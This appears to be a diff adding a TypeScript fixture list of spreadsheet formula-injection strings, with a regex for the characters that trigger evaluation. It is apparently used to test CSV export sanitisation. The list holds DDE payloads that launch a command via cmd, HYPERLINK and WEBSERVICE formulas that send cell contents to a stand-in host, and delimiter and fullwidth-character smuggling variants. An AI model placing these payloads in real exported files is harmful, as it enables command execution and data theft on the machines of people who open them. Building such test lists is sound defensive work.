@@ -1,0 +1,37 @@
+/** Texts that a spreadsheet runs, or takes for something else, when it reads them as if they had been typed. */
+export const FORMULA_TEXTS: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '-5',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "@cmd|' /C calc'!A0",
+  '=DDE("cmd","/C calc","!A0")',
+  '=HYPERLINK("https://example.com/?"&A1,"open")',
+  '=WEBSERVICE("https://example.com/"&A1)',
+  '=IMPORTXML("https://example.com","//a")',
+  '{=1+1}',
+  "'=1+1",
+  '"=1+1',
+  '\uFF1D1+1',
+  '\uFF0B1',
+  '\uFF0D1',
+  '\uFF20A1',
+  'desk;=1+1',
+  'desk,=1+1',
+  'desk\t=1+1',
+  'desk\r\n=1+1',
+  'a"\r\n=1+1;"',
+  '1e5',
+  '007',
+  'TRUE',
+  'JAN-27',
+];
+
+/** The first character of those that a spreadsheet takes for a formula. */
+export const RUNS = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
